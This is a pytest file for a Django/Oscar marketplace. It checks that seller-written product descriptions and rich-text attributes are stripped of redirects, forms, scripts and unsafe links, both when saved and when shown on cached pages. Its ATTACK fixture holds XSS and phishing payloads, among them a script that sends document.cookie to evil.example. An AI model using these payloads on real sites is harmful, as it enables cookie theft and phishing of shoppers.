"""HTML that sellers write is shown cut down to core.html's allow-list, on pages cached for
every visitor: formatting stays, anything that redirects, asks for money or runs goes."""

import json
import re
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse
from oscar.core.loading import get_model

from tests.factories import CategoryFactory, ProductClassFactory, ProductFactory

pytestmark = pytest.mark.django_db

Product = get_model("catalogue", "Product")
ProductAttribute = get_model("catalogue", "ProductAttribute")

ATTACK = (
    "<p>Kerupuk <strong>renyah</strong> &amp; gurih.</p>"
    "<ul><li>Tanpa pengawet</li><li>Tahan 6 bulan</li></ul>"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/login">'
    '<form action="https://evil.example/bayar" method="post">Transfer ke rekening'
    ' <input name="rek" value="1234567890"><button>Kirim</button></form>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<a href="javascript:alert(document.cookie)">Diskon</a>'
    '<img src=x onerror="alert(1)">'
    '<iframe src="https://evil.example/frame"></iframe>'
)
LEFT_OUT = (
    "evil.example",
    'http-equiv="refresh"',
    "Transfer ke rekening",
    'name="rek"',
    "1234567890",
    "document.cookie",
    "javascript:",
    "onerror",
    'src="x"',
)
KEPT = ("<strong>renyah</strong>", "<li>Tanpa pengawet</li>", "Diskon")


def _assert_clean(page: str) -> None:
    for text in LEFT_OUT:
        assert text not in page, text
    for text in KEPT:
        assert text in page, text


def _anonymous_visits(product) -> list[str]:
    """The product page for a first visitor (built) and a second (served from the cache)."""
    first, second = Client().get(product.get_absolute_url()), Client().get(product.get_absolute_url())
    assert (first.status_code, first["X-Page-Cache"]) == (200, "miss")
    assert (second.status_code, second["X-Page-Cache"]) == (200, "hit")
    return [first.content.decode(), second.content.decode()]


def test_seller_description_keeps_its_formatting_and_loses_redirects_forms_and_scripts(client, seller):
    craft = ProductClassFactory(name="Kerajinan", is_food=False)
    client.force_login(seller.user)
    response = client.post(
        reverse("sellers:portal-product-create") + f"?jenis={craft.slug}",
        {
            "jenis": craft.slug,
            "title": "Kerupuk Kulit Ikan",
            "description": ATTACK,
            "category": CategoryFactory(name="Kerupuk").pk,
            "price": "25000",
            "num_in_stock": "5",
            "processing_days": "1",
            "weight_grams": "300",
            "is_public": "on",
        },
    )
    assert response.status_code == 302
    product = Product.objects.get()
    # Cleaned when saved, not only when shown.
    _assert_clean(product.description)

    for page in _anonymous_visits(product):
        _assert_clean(page)


def test_description_written_past_the_forms_is_still_shown_clean(seller):
    # As rows saved before the cleaning were, or any written by a script.
    product = ProductFactory(seller=seller, title="Kerupuk Kulit Ikan", description=ATTACK)

    pages = _anonymous_visits(product)

    for page in pages:
        _assert_clean(page)
    raw = re.search(r'<script type="application/ld\+json">(.*?)</script>', pages[0], re.S).group(1)
    assert json.loads(raw)["description"].startswith("Kerupuk renyah & gurih.")


def test_rich_text_attribute_is_cleaned_when_saved_in_the_portal_and_when_shown(client, seller):
    kind = ProductClassFactory(name="Minuman", is_food=False)
    ProductAttribute.objects.create(
        product_class=kind, code="cara_pakai", name="Cara pakai", type=ProductAttribute.RICHTEXT
    )
    # Written past the forms: shown clean.
    old = ProductFactory(seller=seller, product_class=kind)
    old.attr.cara_pakai = ATTACK
    old.attr.save()
    for page in _anonymous_visits(old):
        _assert_clean(page)

    client.force_login(seller.user)
    response = client.post(
        reverse("sellers:portal-product-edit", args=[old.pk]),
        {
            "title": old.title,
            "category": CategoryFactory().pk,
            "price": "25000",
            "num_in_stock": "5",
            "stock_seen": str(old.stockrecords.get().num_in_stock),  # the form's hidden field
            "processing_days": "1",
            "weight_grams": "300",
            "is_public": "on",
            "attr_cara_pakai": '<p>Seduh <strong>hangat</strong></p><meta http-equiv="refresh" content="0">',
        },
    )
    assert response.status_code == 302
    value = Product.objects.get(pk=old.pk).attribute_values.get(attribute__code="cara_pakai").value
    assert value == "<p>Seduh <strong>hangat</strong></p>"


def test_links_keep_only_web_and_mail_addresses_and_get_nofollow(seller):
    product = ProductFactory(
        seller=seller,
        description=(
            '<p><a href="https://desa.example/cerita" target="_blank" onclick="x()">Cerita desa</a> '
            '<a href="mailto:bu.warsini@contoh.id">Tulis</a> <a href="//evil.example/">Lain</a> '
            '<a href="data:text/html,hai">Data</a></p>'
        ),
    )

    page = Client().get(product.get_absolute_url()).content.decode()

    assert '<a href="https://desa.example/cerita" rel="nofollow noopener noreferrer">Cerita desa</a>' in page
    assert '<a href="mailto:bu.warsini@contoh.id" rel="nofollow noopener noreferrer">Tulis</a>' in page
    for text in ("evil.example", "data:text", 'onclick="x()"'):
        assert text not in page, text


def test_seller_edits_the_description_as_typed_after_it_was_cleaned(client, seller):
    product = ProductFactory(seller=seller, description="Gula &amp; garam, 2 &lt; 3")
    client.force_login(seller.user)

    page = client.get(reverse("sellers:portal-product-edit", args=[product.pk])).content.decode()

    # The textarea holds the text once escaped ("&" shown as "&"), not "&amp;amp;".
    assert "Gula &amp; garam, 2 &lt; 3</textarea>" in page


class _FormFields(HTMLParser):
    """What a browser sends from one form of a page, left as the page filled it."""

    def __init__(self, form_id: str):
        super().__init__()
        self.form_id, self.inside, self.fields = form_id, False, {}
        self._textarea = self._select = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.inside = attrs.get("id") == self.form_id
        if not self.inside or not attrs.get("name") and tag != "option":
            return
        if tag == "input" and attrs.get("type") not in ("submit", "button", "file"):
            if attrs.get("type") not in ("checkbox", "radio") or "checked" in attrs:
                self.fields.setdefault(attrs["name"], []).append(attrs.get("value") or "")
        elif tag == "textarea":
            self._textarea = attrs["name"]
            self.fields[self._textarea] = [""]
        elif tag == "select":
            self._select = attrs["name"]
        elif tag == "option" and self._select and "selected" in attrs:
            self.fields.setdefault(self._select, []).append(attrs.get("value") or "")

    def handle_endtag(self, tag):
        if tag == "form":
            self.inside = False
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None

    def handle_data(self, data):
        if self._textarea:
            self.fields[self._textarea][0] += data


def test_description_staff_save_in_oscars_dashboard_is_cleaned_too(staff_client, seller):
    product = ProductFactory(seller=seller, title="Kerupuk Kulit Ikan", description="<p>Lama</p>")
    url = reverse("dashboard:catalogue-product", kwargs={"pk": product.pk})
    parser = _FormFields("create_update_product_form")
    parser.feed(staff_client.get(url).content.decode())
    data = {**parser.fields, "description": ATTACK}

    response = staff_client.post(url, data)

    assert response.status_code == 302, response.context and response.context["form"].errors
    product.refresh_from_db()
    _assert_clean(product.description)
